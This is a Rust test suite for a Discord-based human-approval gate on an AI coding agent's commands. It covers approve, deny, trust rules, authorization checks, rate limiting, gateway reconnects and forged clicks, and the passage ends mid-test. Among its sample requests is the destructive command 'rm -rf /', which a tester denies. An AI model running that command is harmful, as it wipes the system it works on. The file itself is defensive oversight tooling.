//! Discord scenarios, in process: the real Discord transport
//! (`connect` + `serve`) and the real approval task, against the fake
//! Discord. Every click is proven received by its acknowledgement, which
//! must arrive within Discord's 3 s.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use gatekeep::approval::messages::{Decider, Input, Notice, Notifier, RunReport};
use gatekeep::approval::registry::Reply;
use gatekeep::approval::task::{ApprovalTask, Deadlines, Replier, ReplyError};
use gatekeep::approval::{Ask, Echo, EndReason, Question, Settlement};
use gatekeep::config::DiscordConfig;
use gatekeep::config::Ping;
use gatekeep::transport::discord::{self, RunInfo};
use secrecy::SecretString;
use serde_json::{json, Value};
use tokio::sync::mpsc;

use crate::support::fake_discord::{FakeDiscord, Member, StoredMessage};
use crate::support::scenario::{admin, button, decision, MANAGE_CHANNELS};

const CHANNEL: u64 = 500;
const WAIT: Duration = Duration::from_secs(10);
const ACK_LIMIT: Duration = Duration::from_secs(3);
const TOKEN: &str = "fake-bot-token-Zk2p9";

/// Records what would have been sent to OpenCode.
#[derive(Clone, Default)]
struct Replies(Arc<Mutex<Vec<(String, Reply)>>>);

impl Replier for Replies {
    async fn reply(&self, request_id: &str, reply: &Reply) -> Result<(), ReplyError> {
        self.0
            .lock()
            .expect("replies")
            .push((request_id.to_owned(), reply.clone()));
        Ok(())
    }
}

impl Replies {
    fn for_id(&self, id: &str) -> Vec<Reply> {
        self.0
            .lock()
            .expect("replies")
            .iter()
            .filter(|(r, _)| r == id)
            .map(|(_, r)| r.clone())
            .collect()
    }
}

#[derive(Default, Clone)]
struct Access {
    users: Vec<u64>,
    roles: Vec<u64>,
    /// Whom requests ping (empty: nobody, as with `--no-mention`).
    ping: Ping,
    remind: Option<Duration>,
}

fn settings(fake: &FakeDiscord, access: &Access) -> DiscordConfig {
    DiscordConfig {
        token: SecretString::from(TOKEN.to_owned()),
        api_base: fake.base(),
        channel_id: CHANNEL,
        approvers: access.users.clone(),
        approver_roles: access.roles.clone(),
        ping: access.ping.clone(),
        remind: access.remind,
        identify_reserve: 50,
        connect_timeout: Duration::from_secs(120),
        use_hub: true,
    }
}

fn quiet() -> gatekeep::console::Console {
    gatekeep::console::Console::new(gatekeep::config::Verbosity::Quiet)
}

fn info() -> RunInfo {
    RunInfo {
        title: "fix the flaky test".into(),
        workspace: "repo".into(),
        host: "host-1".into(),
        model: Some("fake/model".into()),
        opencode_version: Some("1.18.33".into()),
        ci: None,
        policy: None,
        caveats: Vec::new(),
    }
}

/// The transport and the approval task, wired as the supervisor does.
struct Harness {
    fake: FakeDiscord,
    thread: u64,
    inputs: mpsc::Sender<Input>,
    /// A second subscriber of the notices, for the test to observe.
    observed: tokio::sync::Mutex<mpsc::UnboundedReceiver<Notice>>,
    notifier: Notifier,
    replies: Replies,
    serve: tokio::task::JoinHandle<Result<(), discord::Error>>,
    next_id: Mutex<u32>,
}

impl Harness {
    async fn start(access: Access) -> Self {
        Self::start_with(FakeDiscord::start().await, access).await
    }

    async fn start_with(fake: FakeDiscord, access: Access) -> Self {
        let transport = discord::connect(settings(&fake, &access), info(), &quiet())
            .await
            .expect("connect to the fake Discord");
        let thread = transport.thread_id();
        let mut notifier = Notifier::default();
        let discord_rx = notifier.subscribe();
        let observed = notifier.subscribe();
        let (inputs, inputs_rx) = mpsc::channel(64);
        let replies = Replies::default();
        let deadlines = Deadlines {
            approval_timeout: Duration::from_secs(600),
            run_deadline: std::time::Instant::now() + Duration::from_secs(3600),
            teardown_margin: Duration::from_secs(5),
        };
        tokio::spawn(
            ApprovalTask::new(replies.clone(), notifier.clone(), deadlines).run(inputs_rx),
        );
        let serve = tokio::spawn(transport.serve(
            discord_rx,
            Decider::new(inputs.clone()),
            gatekeep::console::Console::new(gatekeep::config::Verbosity::Normal),
        ));
        Self {
            fake,
            thread,
            inputs,
            observed: tokio::sync::Mutex::new(observed),
            notifier,
            replies,
            serve,
            next_id: Mutex::new(0),
        }
    }

    /// OpenCode asks; returns (request id, number) once it is shown.
    async fn ask(&self, command: &str) -> (String, u32) {
        let id = self.ask_raw(command).await;
        let number = self
            .wait_notice(&format!("Show({id})"), |n| match n {
                Notice::Show(r) if r.ask.id == id => Some(r.number),
                _ => None,
            })
            .await;
        (id, number)
    }

    /// OpenCode asks; returns the request id at once.
    async fn ask_raw(&self, command: &str) -> String {
        let id = {
            let mut n = self.next_id.lock().expect("ids");
            *n += 1;
            format!("per_{n}")
        };
        let mut request = Ask::bash(id.clone(), "ses_root", command);
        if let gatekeep::approval::Subject::Permission(p) = &mut request.subject {
            p.description = Some("Run a command".into());
        }
        self.inputs
            .send(Input::Asked(request))
            .await
            .expect("approval task alive");
        id
    }

    /// The agent asks `questions`; returns (request id, number) once shown.
    async fn ask_question(&self, questions: Vec<Question>) -> (String, u32) {
        let id = {
            let mut n = self.next_id.lock().expect("ids");
            *n += 1;
            format!("que_{n}")
        };
        let request = Ask::question(id.clone(), "ses_root", questions);
        self.inputs
            .send(Input::Asked(request))
            .await
            .expect("approval task alive");
        let number = self
            .wait_notice(&format!("Show({id})"), |n| match n {
                Notice::Show(r) if r.ask.id == id => Some(r.number),
                _ => None,
            })
            .await;
        (id, number)
    }

    /// Clicks the component `label` (any row) of request `number`; checks
    /// the acknowledgement. Returns (ack body, token).
    async fn click_any(&self, number: u32, label: &str, member: &Member) -> (Value, String) {
        let msg = self.message_of(number).await;
        let (id, token) = self
            .fake
            .click(msg.id, &button(&msg, label), member, self.thread);
        let (ack, took) = self.fake.wait_ack(id, WAIT).await;
        assert!(took < ACK_LIMIT, "click acknowledged after {took:?}");
        (ack, token)
    }

    async fn wait_notice<T>(&self, what: &str, mut f: impl FnMut(&Notice) -> Option<T>) -> T {
        let mut rx = self.observed.lock().await;
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            let Ok(next) = tokio::time::timeout_at(deadline, rx.recv()).await else {
                panic!("timed out waiting for notice {what}");
            };
            let Some(notice) = next else {
                panic!("notices ended while waiting for {what}");
            };
            if let Some(v) = f(&notice) {
                return v;
            }
        }
    }

    /// The posted message of request `number`.
    async fn message_of(&self, number: u32) -> StoredMessage {
        self.fake
            .wait_message(self.thread, &format!("Request #{number}:"), WAIT)
            .await
    }

    /// Clicks `label` on request `number`'s message; waits for and checks
    /// the acknowledgement (received, within 3 s). Returns (ack body, token).
    async fn click(&self, number: u32, label: &str, member: &Member) -> (Value, String) {
        self.click_in(number, label, member, self.thread).await
    }

    /// An admin clicks `label` on request `number`: what Discord shows them.
    async fn admin_clicks(&self, number: u32, label: &str) -> String {
        let (_, token) = self.click(number, label, &admin()).await;
        self.fake.wait_followup(&token, WAIT).await
    }

    async fn click_in(
        &self,
        number: u32,
        label: &str,
        member: &Member,
        channel: u64,
    ) -> (Value, String) {
        let msg = self.message_of(number).await;
        let custom_id = button(&msg, label);
        let (id, token) = self.fake.click(msg.id, &custom_id, member, channel);
        let (ack, took) = self.fake.wait_ack(id, WAIT).await;
        assert!(took < ACK_LIMIT, "click acknowledged after {took:?}");
        (ack, token)
    }

    /// Waits until request `number`'s message shows a final state.
    async fn final_state(&self, number: u32) -> String {
        let msg = self.message_of(number).await;
        self.fake
            .wait_until("the final state", WAIT, |f| {
                let m = f.message(msg.id)?;
                (m.payload["components"] == json!([])).then(|| decision(&m.payload))
            })
            .await
    }

    /// Ends the run as the supervisor does and waits for the transport.
    async fn end(self) -> FakeDiscord {
        let (done, ledger) = tokio::sync::oneshot::channel();
        self.inputs
            .send(Input::Close {
                reason: EndReason::Finished,
                done,
            })
            .await
            .expect("task alive");
        let ledger = ledger.await.expect("ledger");
        self.notifier.send(&Notice::RunEnded(RunReport {
            outcome: "finished".into(),
            exit_code: 0,
            duration: Duration::from_secs(12),
            approved: ledger.approved(),
            denied: ledger.denied(),
        }));
        tokio::time::timeout(WAIT, self.serve)
            .await
            .expect("serve ends after RunEnded")
            .expect("serve task")
            .expect("serve ok");
        assert_every_payload_disallows_mentions(&self.fake);
        assert_token_never_in_bodies(&self.fake);
        self.fake
    }
}

/// The private answer to a click: the acknowledgement itself (type 4) or
/// the follow-up of a deferred one.
async fn private_answer(fake: &FakeDiscord, ack: &Value, token: &str) -> String {
    if ack["type"] == 4 {
        ack["data"]["content"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    } else {
        fake.wait_followup(token, WAIT).await
    }
}

fn yes_no(multiple: bool) -> Question {
    Question {
        header: "Deploy".into(),
        text: "Ship it to **prod** @everyone?".into(),
        options: vec![
            ("Yes".into(), "go ahead".into()),
            ("No".into(), "stop".into()),
        ],
        multiple,
        custom: true,
    }
}

/// Every message, edit and interaction answer sent `parse: []`; only new
/// posts may list ids to ping.
fn assert_every_payload_disallows_mentions(fake: &FakeDiscord) {
    let mut checked = 0;
    for r in fake.requests() {
        let body = if r.path.contains("/callback") {
            match r.body["type"].as_u64() {
                Some(4) => &r.body["data"],
                _ => continue,
            }
        } else if (r.method == "POST" || r.method == "PATCH")
            && r.path.contains("/messages")
            && !r.path.ends_with("/threads")
        {
            &r.body
        } else {
            continue;
        };
        // Nothing is ever parsed from the text; a new post may name the
        // configured people by id (see the ping scenarios), an edit or an
        // interaction answer nobody.
        assert_eq!(
            body["allowed_mentions"]["parse"],
            json!([]),
            "{} {}: {}",
            r.method,
            r.path,
            r.body
        );
        if r.method != "POST" || r.path.contains("/callback") {
            assert_eq!(
                body["allowed_mentions"],
                json!({ "parse": [] }),
                "{} {}: {}",
                r.method,
                r.path,
                r.body
            );
        }
        checked += 1;
    }
    assert!(checked > 0, "no message was checked");
}

fn assert_token_never_in_bodies(fake: &FakeDiscord) {
    for r in fake.requests() {
        assert!(
            !r.body.to_string().contains(TOKEN),
            "the token leaked into {} {}",
            r.method,
            r.path
        );
        assert!(!r.path.contains(TOKEN));
    }
}

#[tokio::test]
async fn approve_edits_the_message_and_summarises_the_run() {
    let h = Harness::start(Access::default()).await;
    // The start message and its thread exist before any request.
    let start = h.fake.messages_in(CHANNEL);
    assert_eq!(start.len(), 1);
    assert!(start[0].payload.to_string().contains("fix the flaky test"));

    let (id, n) = h.ask("cargo test").await;
    let msg = h.message_of(n).await;
    assert!(
        msg.payload["embeds"][0]["fields"]
            .to_string()
            .contains("<t:"),
        "deadline shown as a timestamp"
    );
    let (ack, token) = h.click(n, "Approve", &admin()).await;
    assert_eq!(ack["type"], 5, "deferred first: {ack}");
    assert_eq!(ack["data"]["flags"], 64, "private: {ack}");
    let answer = h.fake.wait_followup(&token, WAIT).await;
    assert!(answer.starts_with("Approved"), "{answer}");
    assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);
    let state = h.final_state(n).await;
    assert!(state.contains("Approved by <@4242>"), "{state}");
    // Edits go through the bot token, not the interaction token.
    let edit = h
        .fake
        .requests()
        .into_iter()
        .find(|r| {
            r.method == "PATCH"
                && r.path
                    .ends_with(&format!("/channels/{}/messages/{}", h.thread, msg.id))
        })
        .expect("an edit of the request message");
    assert_eq!(
        edit.authorization.as_deref(),
        Some(format!("Bot {TOKEN}").as_str())
    );

    let thread_id = h.thread;
    let fake = h.end().await;
    let thread = fake.messages_in(thread_id);
    let summary = thread.last().expect("summary");
    assert!(
        summary.payload["content"]
            .as_str()
            .unwrap_or_default()
            .contains("1 approved, 0 denied"),
        "{}",
        summary.payload
    );
    let start = &fake.messages_in(CHANNEL)[0];
    assert_eq!(start.edits, 1);
    assert!(
        start.payload.to_string().contains("Run finished"),
        "{}",
        start.payload
    );
}

#[tokio::test]
async fn deny_and_deny_with_reason() {
    let h = Harness::start(Access::default()).await;
    let (id1, n1) = h.ask("rm -rf /").await;
    let (_, token) = h.click(n1, "Deny", &admin()).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Denied"));
    assert!(matches!(
        &h.replies.for_id(&id1)[..],
        [Reply::Reject { .. }]
    ));
    assert!(h.final_state(n1).await.contains("Denied by <@4242>"));

    let (id2, n2) = h.ask("git push --force").await;
    let (ack, _) = h.click(n2, "Deny with reason…", &admin()).await;
    assert_eq!(ack["type"], 9, "the modal is the acknowledgement: {ack}");
    let modal_id = ack["data"]["custom_id"]
        .as_str()
        .expect("modal custom_id")
        .to_owned();
    let (iid, token) = h
        .fake
        .submit_modal(&modal_id, "use a branch instead", &admin(), h.thread);
    let (ack, took) = h.fake.wait_ack(iid, WAIT).await;
    assert!(took < ACK_LIMIT);
    assert_eq!(ack["type"], 5);
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Denied"));
    assert_eq!(
        h.replies.for_id(&id2),
        vec![Reply::Reject {
            message: "use a branch instead".into()
        }]
    );
    let state = h.final_state(n2).await;
    assert!(state.contains("use a branch instead"), "{state}");
    h.end().await;
}

#[tokio::test]
async fn approve_and_trust_approves_the_same_request_again_without_asking() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("cargo test").await;
    let (_, token) = h.click(n, "Approve & trust for this run", &admin()).await;
    let answer = h.fake.wait_followup(&token, WAIT).await;
    assert!(answer.starts_with("Approved, and trusted"), "{answer}");
    assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);
    assert!(h
        .final_state(n)
        .await
        .contains("trusted for the rest of this run"));
    // The same command again: approved by the rule, no click needed.
    let again = h.ask_raw("cargo test").await;
    let settlement = h
        .wait_notice("the repeat decided", |notice| match notice {
            Notice::Settled {
                request_id,
                settlement,
                ..
            } if *request_id == again => Some(settlement.clone()),
            Notice::Decided {
                request,
                settlement,
            } if request.ask.id == again => Some(settlement.clone()),
            _ => None,
        })
        .await;
    assert!(
        matches!(settlement, Settlement::ApprovedByRule { rule_of, .. } if rule_of == n),
        "{settlement:?}"
    );
    assert_eq!(h.replies.for_id(&again), vec![Reply::Once]);
    // Shown in the thread, already in its final state.
    let shown = h.fake.wait_message(h.thread, "trust rule", WAIT).await;
    assert_eq!(shown.payload["components"], json!([]));
    // A different command still asks.
    let (other, _) = h.ask("cargo publish").await;
    assert!(h.replies.for_id(&other).is_empty());
    h.end().await;
}

#[tokio::test]
async fn unauthorized_click_changes_nothing_then_listed_user_and_role_decide() {
    let h = Harness::start(Access {
        users: vec![7],
        roles: vec![70],
        ..Access::default()
    })
    .await;
    let (id, n) = h.ask("make deploy").await;
    // Manage Channels does not count when approver lists are given.
    let (ack, _) = h
        .click(
            n,
            "Approve",
            &Member::new(8).permissions(MANAGE_CHANNELS).roles(&[71]),
        )
        .await;
    assert_eq!(ack["type"], 4);
    assert_eq!(ack["data"]["flags"], 64);
    assert!(
        ack["data"]["content"]
            .as_str()
            .unwrap_or_default()
            .contains("Not authorized"),
        "{ack}"
    );
    let who = h
        .wait_notice("Refused", |notice| match notice {
            Notice::Refused {
                number: Some(r),
                actor,
                ..
            } if *r == n => Some(actor.id.clone()),
            _ => None,
        })
        .await;
    assert_eq!(who, "8", "the refused click is recorded for the audit log");
    assert!(h.replies.for_id(&id).is_empty());
    assert!(decision(&h.message_of(n).await.payload).is_empty());

    let (_, token) = h.click(n, "Approve", &Member::new(9).roles(&[70])).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Approved"));
    assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);

    let (id2, n2) = h.ask("make release").await;
    let (_, token) = h.click(n2, "Deny", &Member::new(7)).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Denied"));
    assert_eq!(h.replies.for_id(&id2).len(), 1);
    h.end().await;
}

#[tokio::test]
async fn click_from_another_channel_is_refused() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    let (ack, _) = h.click_in(n, "Approve", &admin(), 777).await;
    assert_eq!(ack["type"], 4);
    assert!(ack["data"]["content"]
        .as_str()
        .unwrap_or_default()
        .contains("Not authorized"));
    assert!(h.replies.for_id(&id).is_empty());
    h.end().await;
}

#[tokio::test]
async fn click_with_another_runs_nonce_is_not_acknowledged() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    let msg = h.message_of(n).await;
    let ours = button(&msg, "Approve");
    let theirs = ours.replacen(
        ours.split(':').nth(1).expect("nonce"),
        "ffffffffffffffff",
        1,
    );
    assert_ne!(ours, theirs);
    let (foreign, _) = h.fake.click(msg.id, &theirs, &admin(), h.thread);
    // A later click of ours is acknowledged: both went over the same gateway.
    let (_, token) = h.click(n, "Approve", &admin()).await;
    h.fake.wait_followup(&token, WAIT).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        !h.fake.acked(foreign),
        "another run's click was acknowledged"
    );
    assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);
    h.end().await;
}

#[tokio::test]
async fn double_click_decides_once() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    let msg = h.message_of(n).await;
    let approve = button(&msg, "Approve");
    let deny = button(&msg, "Deny");
    let (a, ta) = h.fake.click(msg.id, &approve, &admin(), h.thread);
    let (b, tb) = h.fake.click(
        msg.id,
        &deny,
        &Member::new(5).permissions(MANAGE_CHANNELS),
        h.thread,
    );
    for i in [a, b] {
        let (_, took) = h.fake.wait_ack(i, WAIT).await;
        assert!(took < ACK_LIMIT);
    }
    let answers = [
        h.fake.wait_followup(&ta, WAIT).await,
        tb_answer(&h, b, &tb).await,
    ];
    let winners = answers
        .iter()
        .filter(|a| a.starts_with("Approved") || a.starts_with("Denied"))
        .count();
    assert_eq!(winners, 1, "{answers:?}");
    assert_eq!(h.replies.for_id(&id).len(), 1);
    h.end().await;
}

/// The answer to a click: its ephemeral acknowledgement, or its follow-up.
async fn tb_answer(h: &Harness, interaction: u64, token: &str) -> String {
    let (ack, _) = h.fake.wait_ack(interaction, WAIT).await;
    if ack["type"] == 4 {
        ack["data"]["content"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    } else {
        h.fake.wait_followup(token, WAIT).await
    }
}

#[tokio::test]
async fn click_after_settlement_gets_already_decided() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    let msg = h.message_of(n).await;
    let approve = button(&msg, "Approve");
    // OpenCode reports a reply from elsewhere: the request settles.
    h.inputs
        .send(Input::Replied {
            session_id: "ses_root".into(),
            request_id: id.clone(),
            echo: Echo::Rejected,
        })
        .await
        .expect("task");
    h.wait_notice("Settled", |n| {
        matches!(n, Notice::Settled { .. }).then_some(())
    })
    .await;
    let (iid, token) = h.fake.click(msg.id, &approve, &admin(), h.thread);
    let answer = tb_answer(&h, iid, &token).await;
    assert!(answer.starts_with("Already decided"), "{answer}");
    assert!(
        h.replies.for_id(&id).is_empty(),
        "nothing forwarded after settlement"
    );
    h.end().await;
}

#[tokio::test]
async fn posts_pace_themselves_by_the_rate_limit_headers() {
    let h = Harness::start(Access::default()).await;
    let window = Duration::from_millis(600);
    h.fake
        .rate_limit(&format!("/channels/{}/messages", h.thread), 3, window);
    let started = Instant::now();
    for i in 0..7 {
        let (_, n) = h.ask(&format!("step {i}")).await;
        h.message_of(n).await;
    }
    let statuses: Vec<u16> = thread_posts(&h).iter().map(|r| r.status).collect();
    assert_eq!(
        statuses,
        vec![200; 7],
        "no 429: the bucket headers were honoured"
    );
    assert!(
        started.elapsed() + Duration::from_millis(100) >= 2 * window,
        "7 posts at 3 per window take two resets"
    );
    h.end().await;
}

fn thread_posts(h: &Harness) -> Vec<crate::support::fake_discord::Recorded> {
    let path = format!("/api/v10/channels/{}/messages", h.thread);
    h.fake
        .requests()
        .into_iter()
        .filter(|r| r.method == "POST" && r.path == path)
        .collect()
}

/// The message that shows request `number`: its own, or a group's.
async fn shown(h: &Harness, number: u32) -> StoredMessage {
    let single = format!("Request #{number}:");
    let grouped = format!("\"#{number} · ");
    h.fake
        .wait_until(&format!("request #{number} shown"), WAIT, |f| {
            f.messages_in(h.thread).into_iter().find(|m| {
                let text = m.payload.to_string();
                text.contains(&single) || text.contains(&grouped)
            })
        })
        .await
}

fn component(msg: &StoredMessage, custom_suffix: &str) -> String {
    msg.payload["components"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|row| row["components"].as_array().cloned().unwrap_or_default())
        .filter_map(|c| c["custom_id"].as_str().map(str::to_owned))
        .find(|id| id.ends_with(custom_suffix))
        .unwrap_or_else(|| panic!("no component ending {custom_suffix:?} in {}", msg.payload))
}

/// Every group message among the messages showing `asked`.
async fn group_messages(h: &Harness, asked: &[(String, u32)]) -> Vec<StoredMessage> {
    let mut groups = Vec::new();
    for (_, n) in asked {
        let msg = shown(h, *n).await;
        if msg.payload["embeds"][0]["title"]
            .as_str()
            .unwrap_or_default()
            .contains("requests:")
            && !groups.iter().any(|g: &StoredMessage| g.id == msg.id)
        {
            groups.push(msg);
        }
    }
    groups
}

#[tokio::test]
async fn twenty_parallel_requests_are_grouped_and_all_decided() {
    let h = Harness::start(Access::default()).await;
    h.fake.rate_limit(
        &format!("/channels/{}/messages", h.thread),
        5,
        Duration::from_millis(500),
    );
    // Hold the first post back so the other nineteen queue up behind it.
    h.fake.fail_next(
        1,
        429,
        Some(0.3),
        &format!("/channels/{}/messages", h.thread),
    );
    let started = Instant::now();
    let mut asked = Vec::new();
    for i in 0..20 {
        asked.push(h.ask(&format!("subagent task {i}")).await);
    }
    let groups = group_messages(&h, &asked).await;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
    let posts = thread_posts(&h);
    assert_eq!(
        posts.iter().filter(|r| r.status == 429).count(),
        1,
        "only the injected 429"
    );
    assert_eq!(
        groups.len(),
        2,
        "19 queued requests make two groups of at most 10"
    );
    assert_eq!(posts.iter().filter(|r| r.status == 200).count(), 3);
    assert!(
        groups.iter().all(|g| g.payload["attachments"].is_array()),
        "full texts attached"
    );

    // The single one, by its buttons.
    let (first_id, first) = &asked[0];
    let (_, token) = h.click(*first, "Approve", &admin()).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Approved"));
    assert_eq!(h.replies.for_id(first_id), vec![Reply::Once]);

    // Group one: approve two chosen in the menu, then deny all the rest.
    let g1 = &groups[0];
    let members: Vec<u32> = asked
        .iter()
        .map(|(_, n)| *n)
        .filter(|n| g1.payload.to_string().contains(&format!("\"#{n} · ")))
        .collect();
    let chosen = [members[0].to_string(), members[3].to_string()];
    let (iid, token) = h.fake.select(
        g1.id,
        &component(g1, ":A"),
        &[&chosen[0], &chosen[1]],
        &admin(),
        h.thread,
    );
    let (_, took) = h.fake.wait_ack(iid, WAIT).await;
    assert!(took < ACK_LIMIT);
    let answer = h.fake.wait_followup(&token, WAIT).await;
    assert_eq!(answer.matches("Approved").count(), 2, "{answer}");
    let (iid, token) = h
        .fake
        .click(g1.id, &component(g1, ":N"), &admin(), h.thread);
    h.fake.wait_ack(iid, WAIT).await;
    let answer = h.fake.wait_followup(&token, WAIT).await;
    assert_eq!(
        answer.matches("Denied").count(),
        members.len() - 2,
        "{answer}"
    );

    // Group two: approve all.
    let g2 = &groups[1];
    let (iid, token) = h
        .fake
        .click(g2.id, &component(g2, ":Y"), &admin(), h.thread);
    h.fake.wait_ack(iid, WAIT).await;
    h.fake.wait_followup(&token, WAIT).await;

    // Every request got exactly one reply, the chosen ones and group two approved.
    for (id, n) in &asked {
        let replies = h.replies.for_id(id);
        assert_eq!(replies.len(), 1, "#{n}: {replies:?}");
        let approved = !members.contains(n) || chosen.contains(&n.to_string());
        assert_eq!(replies[0] == Reply::Once, approved, "#{n}");
    }
    // Both group messages end fully decided, without components.
    for g in &groups {
        h.fake
            .wait_until("the group's final state", WAIT, |f| {
                let m = f.message(g.id)?;
                (m.payload["components"] == json!([])).then_some(())
            })
            .await;
    }
    h.end().await;
}

#[tokio::test]
async fn retry_after_is_honoured() {
    let h = Harness::start(Access::default()).await;
    h.fake.fail_next(
        1,
        429,
        Some(0.4),
        &format!("/channels/{}/messages", h.thread),
    );
    let (_, n) = h.ask("ls").await;
    h.message_of(n).await;
    let posts: Vec<_> = h
        .fake
        .requests()
        .into_iter()
        .filter(|r| {
            r.method == "POST"
                && r.path
                    .ends_with(&format!("/channels/{}/messages", h.thread))
        })
        .collect();
    assert_eq!(
        posts.iter().map(|r| r.status).collect::<Vec<_>>(),
        vec![429, 200]
    );
    let gap = posts[1].at.duration_since(posts[0].at);
    assert!(gap >= Duration::from_millis(400), "retried after {gap:?}");
    h.end().await;
}

#[tokio::test]
async fn request_that_cannot_be_posted_is_denied() {
    let h = Harness::start(Access::default()).await;
    h.fake
        .fail_next(10, 500, None, &format!("/channels/{}/messages", h.thread));
    let (id, n) = h.ask("ls").await;
    let settlement = h
        .wait_notice("Settled ChannelFailed", |notice| match notice {
            Notice::Settled {
                number, settlement, ..
            } if *number == n => Some(settlement.clone()),
            _ => None,
        })
        .await;
    assert!(
        matches!(settlement, Settlement::ChannelFailed { .. }),
        "{settlement:?}"
    );
    assert!(matches!(&h.replies.for_id(&id)[..], [Reply::Reject { .. }]));
    let attempts = h.fake.requests().iter().filter(|r| r.status == 500).count();
    assert!((2..=5).contains(&attempts), "bounded retries: {attempts}");
    h.end().await;
}

#[tokio::test]
async fn gateway_drop_resumes_and_clicks_still_arrive() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    h.fake.close_gateway();
    h.fake
        .wait_until("a RESUME", WAIT, |f| (f.resumes() >= 1).then_some(()))
        .await;
    h.fake.wait_gateway(WAIT).await;
    assert_eq!(h.fake.identifies(), 1, "resumed, not re-identified");
    assert!(h.admin_clicks(n, "Approve").await.starts_with("Approved"));
    assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);
    h.end().await;
}

/// A connection whose heartbeats go unanswered is a zombie: gatekeep closes
/// it itself (resumably) and resumes, without spending a session start.
#[tokio::test]
async fn unanswered_heartbeats_make_a_resume_and_clicks_still_arrive() {
    let fake = FakeDiscord::start().await;
    fake.set_heartbeat_interval(Duration::from_millis(200));
    let h = Harness::start_with(fake, Access::default()).await;
    let (id, n) = h.ask("ls").await;
    h.fake
        .wait_until("a first heartbeat", WAIT, |f| {
            (f.heartbeats() >= 1).then_some(())
        })
        .await;
    h.fake.acknowledge_heartbeats(false);
    h.fake
        .wait_until("a RESUME", WAIT, |f| (f.resumes() >= 1).then_some(()))
        .await;
    h.fake.acknowledge_heartbeats(true);
    h.fake.wait_gateway(WAIT).await;
    assert_eq!(h.fake.identifies(), 1, "resumed, not re-identified");
    assert_eq!(h.fake.client_closes(), vec![4000], "closed resumably");
    assert!(h.admin_clicks(n, "Approve").await.starts_with("Approved"));
    assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);
    h.end().await;
}

#[tokio::test]
async fn discord_asking_to_reconnect_gets_a_resume_not_a_new_session() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    h.fake.ask_to_reconnect();
    h.fake
        .wait_until("a RESUME", WAIT, |f| (f.resumes() >= 1).then_some(()))
        .await;
    h.fake.wait_gateway(WAIT).await;
    assert_eq!(h.fake.identifies(), 1);
    assert!(h.admin_clicks(n, "Deny").await.starts_with("Denied"));
    assert!(matches!(&h.replies.for_id(&id)[..], [Reply::Reject { .. }]));
    h.end().await;
}

#[tokio::test]
async fn gateway_lost_for_good_denies_open_and_new_requests() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    h.message_of(n).await;
    h.fake.close_gateway_with(4004);
    let settled = |number: u32| {
        move |notice: &Notice| match notice {
            Notice::Settled {
                number: x,
                settlement,
                ..
            } if *x == number => Some(settlement.clone()),
            _ => None,
        }
    };
    let first = h.wait_notice("the open request denied", settled(n)).await;
    assert!(
        matches!(&first, Settlement::ChannelFailed { detail } if detail.contains("gateway")),
        "{first:?}"
    );
    assert!(matches!(&h.replies.for_id(&id)[..], [Reply::Reject { .. }]));
    let (id2, n2) = h.ask("ls -la").await;
    let second = h.wait_notice("the new request denied", settled(n2)).await;
    assert!(
        matches!(second, Settlement::ChannelFailed { .. }),
        "{second:?}"
    );
    assert!(matches!(
        &h.replies.for_id(&id2)[..],
        [Reply::Reject { .. }]
    ));
    assert!(h.final_state(n2).await.contains("channel failed"));
    h.end().await;
}

/// A click Discord never issued (say, from a process posing as the host's
/// `gatekeep hub`) looks like an approver's, but Discord refuses to
/// acknowledge it: it decides nothing, and the request still waits for a
/// real click.
#[tokio::test]
async fn a_click_discord_does_not_know_decides_nothing() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("git push --force").await;
    let msg = h.message_of(n).await;
    let (forged, _) = h
        .fake
        .forge_click(msg.id, &button(&msg, "Approve"), &admin(), h.thread);
    h.fake.wait_ack(forged, WAIT).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(h.replies.for_id(&id).is_empty(), "a forged click decided");
    let (ack, _) = h.click(n, "Deny", &admin()).await;
    assert_eq!(ack["type"], 5, "{ack}");
    let state = h.final_state(n).await;
    assert!(state.contains("Denied by <@4242>"), "{state}");
    assert!(matches!(&h.replies.for_id(&id)[..], [Reply::Reject { .. }]));
}

#[tokio::test]
async fn failing_gateway_lookup_fails_connect_without_any_fallback() {
    let fake = FakeDiscord::start().await;
    fake.fail_gateway_lookup(503);
    let started = Instant::now();
    let err = discord::connect(settings(&fake, &Access::default()), info(), &quiet())
        .await
        .expect_err("connect must fail");
    assert!(matches!(err, discord::Error::GatewayLookup { .. }), "{err}");
    let text = err.to_string();
    assert!(text.contains("gateway lookup"), "{text}");
    assert!(!text.contains(TOKEN));
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(fake.identifies(), 0);
    let paths: Vec<_> = fake.requests().into_iter().map(|r| r.path).collect();
    // The bot's application (what the host's lock is named after) and
    // its gateway (with its session-start budget), nothing else.
    assert_eq!(
        paths,
